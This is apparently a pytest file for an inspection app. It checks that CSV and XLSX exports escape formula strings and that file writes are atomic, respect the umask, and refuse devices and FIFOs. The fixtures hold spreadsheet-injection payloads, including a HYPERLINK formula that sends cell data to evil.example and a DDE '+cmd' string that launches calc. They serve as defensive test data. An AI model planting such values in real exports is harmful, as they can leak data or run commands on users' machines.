"""Every file the app writes is written atomically, only over a regular file, and as data.

Issue 11, groups 4 and 5: formula strings in exported tables, device nodes and FIFOs as
targets, failed writes (disk full, ``ulimit -f``, an exception) that must leave the
user's existing file as it was, and file modes that follow the umask.
"""

from __future__ import annotations

import csv
import errno
import os
import resource
import subprocess
import sys
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from inspector.db import Database
from inspector.errors import UserError
from inspector.files import atomic_path, write_atomic
from inspector.services import branches, photos
from inspector.services.inspections import lifecycle, lookup
from inspector.textsafe import is_formula_like, spreadsheet_text
from tests.conftest import PHOTOS, Cli
from tests.integration.conftest import make_finalized

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
HOSTILE_REGION = "=1+1"
OTHER_STARTS = ["+SUM(1,2)", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1"]


@pytest.fixture
def umask_022() -> Iterator[None]:
    old = os.umask(0o022)
    yield
    os.umask(old)


def _hostile_db(db: Database) -> str:
    with db.session() as s:
        branches.create(s, code="666001", name=HOSTILE_NAME, region=HOSTILE_REGION)
        insp = lifecycle.create(
            s,
            branch_code="666001",
            checklist_id="accessibility",
            answers={"acc.entrance_access": {"result": "fail", "note": "+cmd|' /C calc'!A0"}},
            inspector="@evil",
        )
        photos.add_files(s, insp, "acc.entrance_access", [PHOTOS / "Landscape_1.jpg"], actor="t")
        return insp.uuid


# ---------------------------------------------------------------- 4: data, not formulas
def test_formula_helper_covers_every_trigger() -> None:
    for s in [HOSTILE_NAME, HOSTILE_REGION, *OTHER_STARTS]:
        assert is_formula_like(s)
        assert spreadsheet_text(s) == "'" + s
    for safe in ["上海分行", "A=1", "", 3, -2.5, None]:
        assert spreadsheet_text(safe) == safe


def test_xlsx_export_has_no_formulas(db: Database, run_cli: Cli, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    _hostile_db(db)
    out = tmp_path / "hq.xlsx"
    run_cli.ok("hq", "export", "-o", str(out), "--lang", "en")
    with zipfile.ZipFile(out) as zf:
        sheets = [n for n in zf.namelist() if n.startswith("xl/worksheets/")]
        assert sheets
        for name in sheets:
            assert b"<f>" not in zf.read(name), f"a formula cell in {name}"
    wb = load_workbook(out)
    texts = [
        c.value
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.value in (HOSTILE_NAME, HOSTILE_REGION)
    ]
    assert HOSTILE_NAME in texts and HOSTILE_REGION in texts
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if isinstance(c.value, str) and c.value.startswith("="):
                    assert c.data_type == "s"


def test_csv_export_has_no_formulas(db: Database, run_cli: Cli, tmp_path: Path) -> None:
    _hostile_db(db)
    out = tmp_path / "csv"
    run_cli.ok("hq", "export", "-o", str(out), "--format", "csv")
    cells = []
    for f in out.glob("*.csv"):
        for row in csv.reader(f.read_text(encoding="utf-8-sig").splitlines()):
            cells.extend(row)
    assert "'" + HOSTILE_NAME in cells and "'" + HOSTILE_REGION in cells
    assert not [c for c in cells if is_formula_like(c)]


# ---------------------------------------------------------------- 5: atomic writes
def test_write_atomic_replaces_and_follows_umask(tmp_path: Path, umask_022: None) -> None:
    target = tmp_path / "out.bin"
    target.write_bytes(b"old")
    os.chmod(target, 0o600)
    assert write_atomic(target, b"new") == target.resolve()
    assert target.read_bytes() == b"new"
    assert target.stat().st_mode & 0o777 == 0o644  # not mkstemp's 0600
    os.umask(0o077)
    write_atomic(tmp_path / "private.bin", b"x")
    assert (tmp_path / "private.bin").stat().st_mode & 0o777 == 0o600
    assert write_atomic(tmp_path / "key", b"k", mode=0o600).stat().st_mode & 0o777 == 0o600
    assert sorted(p.name for p in tmp_path.iterdir()) == ["key", "out.bin", "private.bin"]


def test_symlink_target_replaces_the_file_it_points_to(tmp_path: Path) -> None:
    real = tmp_path / "real.pdf"
    real.write_bytes(b"old")
    link = tmp_path / "link.pdf"
    link.symlink_to(real)
    write_atomic(link, b"new")
    assert link.is_symlink() and real.read_bytes() == b"new"


def test_non_regular_targets_are_refused(tmp_path: Path) -> None:
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    (tmp_path / "dir").mkdir()
    for target, kind in [
        (Path("/dev/full"), "a device"),
        (Path("/dev/null"), "a device"),
        (fifo, "a pipe"),
        (tmp_path / "dir", "a folder"),
    ]:
        with pytest.raises(UserError, match=kind):
            write_atomic(target, b"data")
        with pytest.raises(UserError, match=kind), atomic_path(target) as tmp:
            tmp.write_bytes(b"data")
    assert fifo.exists() and not fifo.is_file()
    with pytest.raises(UserError, match="does not exist"):
        write_atomic(tmp_path / "missing" / "x.pdf", b"data")


@pytest.mark.parametrize("fail_in", ["write", "fsync", "replace"])
def test_disk_full_leaves_existing_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fail_in: str
) -> None:
    target = tmp_path / "report.pdf"
    target.write_bytes(b"the good old report")

    def full(*_a: object, **_k: object) -> None:
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    if fail_in == "write":
        monkeypatch.setattr("inspector.files.os.fdopen", _FullFile.open)
    else:
        monkeypatch.setattr(f"inspector.files.os.{fail_in}", full)
    with pytest.raises(UserError, match=r"disk is full.*existing file is unchanged"):
        write_atomic(target, b"x" * 100_000)
    assert target.read_bytes() == b"the good old report"
    assert [p.name for p in tmp_path.iterdir()] == ["report.pdf"]


class _FullFile:
    """A file object whose writes fail as on a full disk."""

    def __init__(self, fd: int) -> None:
        self.fd = fd

    @classmethod
    def open(cls, fd: int, _mode: str) -> _FullFile:
        return cls(fd)

    def __enter__(self) -> _FullFile:
        return self

    def __exit__(self, *_exc: object) -> None:
        os.close(self.fd)

    def write(self, _data: bytes) -> int:
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))


def test_exception_mid_write_leaves_existing_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    target = tmp_path / "export.xlsx"
    target.write_bytes(b"old workbook")

    def boom(*_a: object) -> None:
        raise RuntimeError("killed")

    monkeypatch.setattr("inspector.files.os.replace", boom)
    with pytest.raises(RuntimeError):
        write_atomic(target, b"new workbook")
    with pytest.raises(RuntimeError), atomic_path(target) as tmp:
        tmp.write_bytes(b"half")
    assert target.read_bytes() == b"old workbook"
    assert [p.name for p in tmp_path.iterdir()] == ["export.xlsx"]


def _limit_file_size() -> None:
    resource.setrlimit(resource.RLIMIT_FSIZE, (4096, 4096))


def test_ulimit_f_leaves_existing_file(tmp_path: Path) -> None:
    """A real EFBIG from the kernel (``ulimit -f``), in a child process."""
    target = tmp_path / "hq.xlsx"
    target.write_bytes(b"previous export")
    code = (
        "import sys; from pathlib import Path; from inspector.files import write_atomic\n"
        "from inspector.errors import UserError\n"
        "try:\n"
        f"    write_atomic(Path({str(target)!r}), b'x' * 100_000)\n"
        "except UserError as e:\n"
        "    print(e); sys.exit(1)\n"
    )
    r = subprocess.run(
        [sys.executable, "-c", code],
        capture_output=True,
        text=True,
        preexec_fn=_limit_file_size,
        timeout=60,
    )
    assert r.returncode == 1, r.stderr
    assert "larger than this system allows" in r.stdout
    assert target.read_bytes() == b"previous export"
    assert [p.name for p in tmp_path.iterdir()] == ["hq.xlsx"]


def _commands(uuid: str, photo_id: str, out: str, final: str) -> list[list[str]]:
    return [
        ["report", uuid, "-o", out],
        ["export", final, "-o", out],
        ["hq", "report", "-o", out],
        ["hq", "export", "-o", out],
        ["photo", "get", photo_id, "-o", out],
        ["backup", "-o", out],
        ["keys", "export", "-o", out],
    ]


def test_every_cli_writer_refuses_a_device_or_fifo(
    db: Database, run_cli: Cli, tmp_path: Path
) -> None:
    uuid = _hostile_db(db)
    final = make_finalized(db)
    with db.read_session() as s:
        photo_id = lookup.get(s, uuid).photos[0].id
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    for target in ["/dev/full", str(fifo)]:
        for args in _commands(uuid, photo_id, target, final):
            r = run_cli(*args)
            assert r.exit_code == 1, (args, r.output)
            assert r.stderr.startswith(f"error: {target}: is a "), (args, r.stderr)
            assert "internal error" not in r.stderr
    assert fifo.exists() and not fifo.is_file()


def test_every_cli_writer_is_atomic_and_follows_umask(
    db: Database, run_cli: Cli, tmp_path: Path, umask_022: None
) -> None:
    uuid = _hostile_db(db)
    final = make_finalized(db)
    with db.read_session() as s:
        photo_id = lookup.get(s, uuid).photos[0].id
    for i, args in enumerate(_commands(uuid, photo_id, "OUT", final)):
        out = tmp_path / f"out{i}"
        out.write_bytes(b"old")
        run_cli.ok(*[str(out) if a == "OUT" else a for a in args])
        assert out.read_bytes() != b"old"
        assert out.stat().st_mode & 0o777 == 0o644, args
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []
